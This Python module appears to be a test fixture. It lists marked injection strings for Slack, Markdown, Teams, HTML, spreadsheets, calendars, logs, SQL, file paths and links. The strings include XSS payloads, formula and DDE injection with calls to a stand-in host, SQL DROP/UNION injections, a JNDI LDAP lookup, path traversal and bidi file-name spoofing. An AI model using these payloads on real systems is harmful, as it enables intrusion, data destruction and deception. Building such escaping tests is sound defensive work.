"""Words that would be more than words, if anything took them at their word: each carries the mark, so that it is found.

Everything here is made by hand or by crossing lists; nothing of the product is used.
"""

from itertools import product

MARK = "zq7"
HOST = "zq7.example"
URL = f"https://{HOST}/x"

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""What turns the direction of the words that follow."""
UNSEEN = "\u200b\u2060\ufeff\u00ad\u180e\u2061\u2062\u2063\u2064"
"""What has no width, and is no joiner of letters or emoji."""

_TARGETS = ("!channel", "!here", "!everyone", "!subteam^S012AB3CD", "@U012AB3CD", "@W012AB3CD", "#C012AB3CD")
SLACK = (
    *(f"<{target}> {MARK}" for target in _TARGETS),
    *(f"<{target}|{MARK}>" for target in _TARGETS),
    *(f"&lt;{target}&gt; {MARK}" for target in _TARGETS),
    *(f"&amp;lt;{target}&amp;gt; {MARK}" for target in _TARGETS),
    f"<{URL}|{MARK} rota>",
    f"<{URL}>",
    f"<mailto:a@{HOST}|{MARK}>",
    f"<tel:+44|{MARK}>",
    f"<slack://user?team=T1&id=U1|{MARK}>",
    f"<javascript:alert(1)|{MARK}>",
    f"<!date^1392734382^{{date}}^{URL}|{MARK}>",
    f"<!date^1392734382^{{date}}|{MARK}>",
    f"@channel {MARK}",
    f"@here {MARK}",
    f"@everyone {MARK}",
    f"#general {MARK}",
    f"*{MARK}* _{MARK}_ ~{MARK}~",
    f"`{MARK}` ```{MARK}```",
    f"> {MARK}",
    f"{MARK}|<{URL}",
    f">{MARK}<!here",
    f"{MARK}>|<!here>",
    f"<<!channel>> {MARK}",
    f"<\u200b!channel> {MARK}",
    f"＜!channel＞ {MARK}",
    f":tada: {MARK}",
)
MARKDOWN = (
    f"[{MARK}]({URL})",
    f"[{MARK}](<{URL}>)",
    f'[{MARK}]({URL} "title")',
    f"[{MARK}]: {URL}",
    f"[{MARK}][{MARK}]\n\n[{MARK}]: {URL}",
    f"![{MARK}]({URL}.png)",
    f"[![{MARK}]({URL}.png)]({URL})",
    f"<{URL}>",
    f"<a@{HOST}>",
    f"[{MARK}](javascript:alert(1))",
    f"[{MARK}](data:text/html;base64,PHNjcmlwdD4=)",
    f"[{MARK}](msteams:/l/chat/0/0?users=a@{HOST})",
    f"[{MARK}](https://teams.microsoft.com/l/chat/0/0?users=a@{HOST})",
    f"\\[{MARK}\\]({URL})",
    f"\\\\[{MARK}]({URL})",
    f"[{MARK}\n]({URL})",
    f"[a]{MARK}(b)",
    f"]({URL}) {MARK}",
    f"[{MARK}",
    f"{MARK}]({URL})",
    f"**{MARK}** __{MARK}__ ~~{MARK}~~",
    f"# {MARK}",
    f"- {MARK}",
    f"1. {MARK}",
    f"> {MARK}",
    f"| {MARK} | b |\n|---|---|\n| 1 | 2 |",
    f"```\n{MARK}\n```",
    f"    {MARK}",
    f"---\n{MARK}",
    f"{MARK}\n===",
    f"<at>Everyone</at> {MARK}",
    f'<at id="0">Tom</at> {MARK}',
    f"<at>{MARK}</at>",
    f"&lt;at&gt;{MARK}&lt;/at&gt;",
    f"{{{{DATE(2026-11-19T08:00:00Z, LONG)}}}} {MARK}",
    f"{{{{TIME(2026-11-19T08:00:00Z)}}}} {MARK}",
    f"${{$root}} {MARK}",
    f"${{{MARK}}}",
    f"{{{{{MARK}}}}}",
    f"&#91;{MARK}&#93;({URL})",
    f"&lbrack;{MARK}&rbrack;({URL})",
)
HTML = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<a href='{URL}'>{MARK}</a>",
    f'"><svg onload={MARK}>',
    f"<iframe src={URL}></iframe>",
    f"<b>{MARK}</b>",
    f"<!-- {MARK} -->",
    f"<![CDATA[{MARK}]]>",
    f"<?xml {MARK}?>",
    f"</w:t></w:r><w:hyperlink r:id='{MARK}'>",
    f"</script><script>{MARK}//",
    f"'-alert({MARK})-'",
    f"<style>@import '{URL}'</style>",
    f"<meta http-equiv=refresh content=0;url={URL}> ",
    f"<link rel=stylesheet href={URL}>",
    f"<font color=red>{MARK}</font>",
    f"<para>{MARK}</para>",
    f'<a href="{URL}" color="blue">{MARK}</a>',
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
)
_FORMULAS = (
    "cmd|' /C calc'!A0", f'HYPERLINK("{URL}","{MARK}")', f'WEBSERVICE("{URL}")', f'IMPORTXML("{URL}","//a")', "1+1",
    f'DDE("cmd";"{MARK}")', f"SUM(1+1)*{MARK}",
)  # fmt: skip
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    ";=",
    ",=",
    "%0A=",
    "\u200b=",
    "\ufeff=",
    "\u202e=",
)
SHEETS = tuple(f"{start}{formula} {MARK}" for start, formula in product(_STARTS, _FORMULAS))
CALENDARS = (
    f"{MARK}\r\nATTENDEE:mailto:a@{HOST}",
    f"{MARK}\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:{MARK}",
    f"{MARK}\r\nEND:VEVENT\r\nEND:VCALENDAR",
    f"{MARK}\r\nATTACH:{URL}",
    f"{MARK}\r\nURL:{URL}",
    f"{MARK}\nBEGIN:VALARM\nACTION:EMAIL\nEND:VALARM",
    f"{MARK};X=1:2,3\\n4",
    f"{MARK}\\nATTACH:{URL}",
    f"{MARK}\rORGANIZER:mailto:a@{HOST}",
    f"{MARK}\u2028ATTACH:{URL}",
    f"{MARK}\u0085ATTACH:{URL}",
    f"{MARK}\x0bATTACH:{URL}",
    f"{MARK}\x0cATTACH:{URL}",
    f'"{MARK}";:,\\',
    "é" * 90 + MARK,
    "𝔘" * 40 + MARK,
)
LOGS = (
    f"{MARK}\n2026-11-19 ERROR root: all is lost",
    f'{MARK}", "level": "error", "says": "x',
    f'{MARK}\r\n{{"level": "error"}}',
    f"{MARK}\x1b[2J\x1b[31mred",
    f"{MARK}\x1b]0;title\x07",
    f"{MARK}\x08\x08\x08back",
    f"{MARK}%s%d%n%(asctime)s",
    f"{{0}}{{self}} {MARK}",
    f"${{jndi:ldap://{HOST}/a}}",
    f"{MARK}\x00null",
)
SQL = (
    f"'; DROP TABLE inbox; -- {MARK}",
    f"' OR '1'='1 {MARK}",
    f'" OR ""="{MARK}',
    f"{MARK}') UNION SELECT secret FROM installations --",  # noqa: S608 - words
    f"%{MARK}%_",
    f"{MARK}\\' OR 1=1#",
    f"1; ATTACH DATABASE '/tmp/{MARK}' AS x",
    f"$${MARK}$$",
    f":{MARK} :name ?",
)
TURNED = (
    *(f"{MARK}{sign}gnp.exe rota{sign}" for sign in BIDI + UNSEEN),
    f"\u202e{MARK}\u202c abc",
    f"T\u0430m \u2066{MARK}\u2069",
    f"{MARK}" + "\u0301" * 60,
    f"{MARK} \U000e0041\U000e0042\U000e007f",
    f"{MARK}\ufe0f\u20e3",
)
PATHS = (
    f"../../{MARK}",
    f"..\\..\\{MARK}",
    f"/etc/{MARK}",
    f"{MARK}\x00.txt",
    f"file://{HOST}/{MARK}",
    f"\\\\{HOST}\\{MARK}",
)
LINKS = (
    URL, f"http://{HOST}/<!channel>", f"https://{HOST}/a|b>c", f"https://tom:pw@{HOST}/", f"https://{HOST}/?q=[a](b)",
    f"javascript:alert('{MARK}')", f"HTTPS://{HOST.upper()}/(x)", f"www.{HOST}", f"mailto:a@{HOST}?subject=<!here>",
    f"https://{HOST}/\u202eabc", f"https://{HOST}/%0d%0aATTACH:x", f"https://{HOST}/`{MARK}`*_",
)  # fmt: skip
EVERY = tuple(dict.fromkeys((*SLACK, *MARKDOWN, *HTML, *SHEETS, *CALENDARS, *LOGS, *SQL, *TURNED, *PATHS, *LINKS)))
